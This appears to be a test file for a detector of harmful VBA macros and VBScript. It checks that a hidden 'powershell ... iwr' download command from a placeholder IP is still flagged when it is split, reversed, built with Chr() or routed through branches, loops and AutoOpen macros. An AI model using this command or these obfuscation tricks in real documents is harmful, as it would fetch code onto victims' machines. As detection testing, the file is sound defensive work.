/** A verdict does not depend on which of several values stands last: each that may reach a call is recorded. */

import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { readBasic } from './basic.ts'
import { ALTERNATIVES_MAX, GAP } from './values.ts'

const EVIL = 'powershell -w hidden iwr http://192.0.2.1/a'
const HARMLESS = 'notepad c:\\a.txt'
const [E, H] = [`"${EVIL}"`, `"${HARMLESS}"`]
/** Nobody knows whether it holds. */
const C = 'Hour(Now) > 99'

/** Statements after which `s` may be either, and procedures that they call. */
const FORMS: Record<string, string | [body: string, rest: string]> = {
  'an If on one line': `s = ${E}\nIf ${C} Then s = ${H}`,
  'an If': `s = ${E}\nIf ${C} Then\ns = ${H}\nEnd If`,
  'an If with a harmless Else': `If ${C} Then\ns = ${E}\nElse\ns = ${H}\nEnd If`,
  'an If with a harmful Else': `If ${C} Then\ns = ${H}\nElse\ns = ${E}\nEnd If`,
  'an If and Else on one line': `If ${C} Then s = ${E} Else s = ${H}`,
  'an ElseIf': `If ${C} Then\ns = ${H}\nElseIf Minute(Now) > 3 Then\ns = ${E}\nElse\ns = ${H}\nEnd If`,
  'nested branches': `s = ${E}\nIf ${C} Then\nIf Minute(Now) > 3 Then s = ${H}\nEnd If`,
  'branches after each other': `s = ${E}\nIf ${C} Then s = ${H}\nIf Minute(Now) > 3 Then s = "calc"`,
  'Select Case': `Select Case Hour(Now)\nCase 1\ns = ${E}\nCase Else\ns = ${H}\nEnd Select`,
  'Select Case without Else': `s = ${E}\nSelect Case Hour(Now)\nCase 1, 2: s = ${H}\nCase 3: s = "calc"\nEnd Select`,
  'a For with an unknown end': `s = ${E}\nFor i = 1 To Hour(Now)\ns = ${H}\nNext`,
  'a For Each': `s = ${E}\nFor Each f In files\ns = ${H}\nNext`,
  'a Do While': `s = ${E}\nDo While ${C}\ns = ${H}\nLoop`,
  'a Do Until': `s = ${E}\nDo Until ${C}\ns = ${H}\nLoop`,
  'a Loop While': `s = ${H}\nt = ${E}\nDo\ns = t\nt = ${H}\nLoop While ${C}`,
  'a While': `s = ${E}\nWhile ${C}\ns = ${H}\nWend`,
  'a second pass of a loop': `t = ${H}\ns = ${H}\nFor i = 1 To Hour(Now)\ns = t\nt = ${E}\nNext`,
  'a loop that is left': `For i = 1 To 3\ns = ${E}\nIf ${C} Then Exit For\ns = ${H}\nNext`,
  'a loop without a condition that is left': `Do\ns = ${E}\nIf ${C} Then Exit Do\ns = ${H}\nLoop`,
  'a part of a text': `t = "x"\nIf ${C} Then t = "powershell"\ns = t & " -w hidden iwr http://192.0.2.1/a"`,
  'a computed part': `n = 1\nIf ${C} Then n = 112\ns = Chr(n) & "owershell -w hidden iwr http://192.0.2.1/a"`,
  'a reversed text': `t = StrReverse(${E})\nIf ${C} Then t = StrReverse(${H})\ns = StrReverse(t)`,
  'an element of an array': `Dim a(2)\na(1) = ${E}\nIf ${C} Then a(1) = ${H}\ns = a(1)`,
  'an unknown element': `Dim a(2)\nn = 0\nIf ${C} Then n = 1\na(0) = ${E}\na(1) = ${E}\na(n) = ${H}\ns = a(0)`,
  'an entry of a dictionary': `Set d = CreateObject("Scripting.Dictionary")\nd("k") = ${E}\nIf ${C} Then d("k") = ${H}\ns = d("k")`,
  'an added entry': `Set d = CreateObject("Scripting.Dictionary")\nd.Add "k", ${E}\nIf ${C} Then d.Item("k") = ${H}\ns = d("k")`,
  'a property': `Set o = CreateObject("ADODB.Command")\no.CommandText = ${E}\nIf ${C} Then o.CommandText = ${H}\ns = o.CommandText`,
  'a part that is replaced': `s = ${E}\nIf ${C} Then Mid(s, 1, 10) = "notepad.ex"`,
  'joined texts': `t = "power"\nIf ${C} Then t = "x"\ns = Join(Array(t, "shell -w hidden iwr http://192.0.2.1/a"), "")`,
  'a returned value': [`s = f()`, `Function f()\nIf ${C} Then\nf = ${E}\nElse\nf = ${H}\nEnd If\nEnd Function`],
  'a value that is returned early': [
    `s = f()`,
    `Function f()\nf = ${E}\nIf ${C} Then Exit Function\nf = ${H}\nEnd Function`,
  ],
  'a value that is returned from a loop': [
    `s = f()`,
    `Function f()\nf = ${E}\nFor i = 1 To 3\nIf ${C} Then Exit Function\nNext\nf = ${H}\nEnd Function`,
  ],
  'a parameter by reference': [`s = ${E}\ng s`, `Sub g(t)\nIf ${C} Then t = ${H}\nEnd Sub`],
  'a parameter by reference that is left early': [
    `s = "x"\ng s`,
    `Sub g(ByRef t)\nt = ${E}\nIf ${C} Then Exit Sub\nt = ${H}\nEnd Sub`,
  ],
  'a parameter': [`t = ${E}\nIf ${C} Then t = ${H}\ns = f(t)`, `Function f(t)\nf = Trim(t)\nEnd Function`],
  'an error that is skipped': `On Error Resume Next\ns = ${E}\ns = unknownFunction("x")`,
  'an object that is none': `On Error Resume Next\ns = ${E}\nSet s = ${H}`,
  'a variable of all procedures': [`z = ${E}\ng\ns = z`, `Dim z\nSub g()\nIf ${C} Then z = ${H}\nEnd Sub`],
}

const MACRO_FORMS: Record<string, string | [body: string, rest: string]> = {
  IIf: `s = IIf(${C}, ${E}, ${H})`,
  'IIf the other way': `s = IIf(${C}, ${H}, ${E})`,
  Choose: `s = Choose(Hour(Now), ${H}, ${E}, "calc")`,
  Switch: `s = Switch(${C}, ${H}, Minute(Now) > 3, ${E}, True, "calc")`,
  'a jump': `s = ${E}\nGoTo done\ns = ${H}\ndone:`,
  'a jump that may be taken': `s = ${E}\nIf ${C} Then GoTo done\ns = ${H}\ndone:`,
  'a jump to a number': `s = ${E}\nIf ${C} Then 10\ns = ${H}\n10 x = 1`,
  'a jump back': `s = ${H}\nt = ${H}\nagain:\ns = t\nt = ${E}\nIf ${C} Then GoTo again`,
  'a jump out of a loop': `For i = 1 To 3\ns = ${E}\nIf ${C} Then GoTo done\nNext\ns = ${H}\ndone:`,
  'a subroutine': `s = ${H}\nGoSub inner\nShell s\nExit Sub\ninner:\ns = ${E}\nReturn`,
  'an error handler': `s = ${E}\nOn Error GoTo failed\nx = 1 / unknown\ns = ${H}\nExit Sub\nfailed:\nShell s`,
  'an error handler that resumes': `s = ${H}\nOn Error GoTo failed\nx = 1 / unknown\nShell s\nExit Sub\nfailed:\ns = ${E}\nResume Next`,
  'a cell': `Range("A1").Value = ${E}\nIf ${C} Then Range("A1").Value = ${H}\ns = Range("A1").Value`,
  'a variable of the document': `ActiveDocument.Variables.Add "k", ${E}\nIf ${C} Then ActiveDocument.Variables("k") = ${H}\ns = ActiveDocument.Variables("k").Value`,
}

const partsOf = (form: string | [string, string]): [string, string] => (typeof form === 'string' ? [form, ''] : form)
const starts = (text: string, isScript: boolean): string[] =>
  readBasic([{ name: 'a', text }], { isScript })
    .effects.filter(({ kind, isAutomatic }) => kind === 'start' && isAutomatic)
    .map((effect) => effect.text)
const macro = (form: string | [string, string], call: string): string => {
  const [body, rest] = partsOf(form)
  const declared = /^Dim z\n/.test(rest) ? 'Dim z\n' : ''
  return `${declared}Sub AutoOpen()\n${body}\n${call}\nEnd Sub\n${rest.slice(declared.length)}`
}

suite('a harmless value beside a harmful one', () => {
  for (const [name, form] of Object.entries({ ...FORMS, ...MACRO_FORMS }))
    test(`of a macro: ${name}`, () => {
      const found = starts(macro(form, 'Shell s'), false)
      assert.ok(found.includes(EVIL), JSON.stringify(found))
    })
  for (const [name, form] of Object.entries(FORMS))
    test(`of a script: ${name}`, () => {
      const [body, rest] = partsOf(form)
      const found = starts(`${body}\nCreateObject("WScript.Shell").Run s\n${rest}`, true)
      assert.ok(found.includes(EVIL), JSON.stringify(found))
    })
})

suite('a value that cannot be reached changes nothing', () => {
  const cases: Record<string, string> = {
    'If False': `s = ${H}\nIf False Then s = ${E}`,
    'a comparison': `s = ${H}\nIf 1 > 2 Then\ns = ${E}\nEnd If`,
    'an Else': `If 1 < 2 Then\ns = ${H}\nElse\ns = ${E}\nEnd If`,
    'a case': `Select Case 3\nCase 1: s = ${E}\nCase 3: s = ${H}\nEnd Select`,
    'a loop that never runs': `s = ${H}\nFor i = 2 To 1\ns = ${E}\nNext`,
    'a value that is replaced in both branches': `s = ${E}\nIf ${C} Then\ns = ${H}\nElse\ns = "notepad c:\\b.txt"\nEnd If`,
    'a value that is replaced later': `If ${C} Then s = ${E}\ns = ${H}`,
    'the other branch leaves': `s = ${H}\nIf ${C} Then\ns = ${E}\nExit Sub\nEnd If`,
  }
  for (const [name, body] of Object.entries(cases))
    test(name, () => {
      const found = starts(macro(body, 'Shell s'), false)
      assert.ok(found.length > 0 && !found.includes(EVIL), JSON.stringify(found))
    })
})

suite('alternatives', () => {
  const many = (count: number): string =>
    Array.from({ length: count }, (_, i) => `If Hour(Now) = ${i} Then s = "notepad c:\\${i}.txt"`).join('\n')
  const found = (count: number): string[] => starts(macro(`s = ${E}\n${many(count)}`, 'Shell s'), false)

  test('are all recorded, as many as are kept', () => {
    assert.equal(found(ALTERNATIVES_MAX - 1).length, ALTERNATIVES_MAX)
    assert.ok(!found(ALTERNATIVES_MAX - 1).some((text) => text.includes(GAP)))
  })

  test('are unknown with one more, and not forgotten', () => {
    assert.ok(found(ALTERNATIVES_MAX).some((text) => text.includes(GAP)))
    assert.ok(found(ALTERNATIVES_MAX).includes(EVIL))
  })

  test('a text of the document does not pass for an unknown one', () => {
    const written = 'ChrW(65533) & ChrW(8289)'
    for (const text of [written, '"\ufffd\u2061"', 'Unescape("%ufffd%u2061")'])
      assert.ok(!starts(macro(`s = ${text} & "x"`, 'Shell s'), false).some((each) => each.includes(GAP)), text)
  })
})
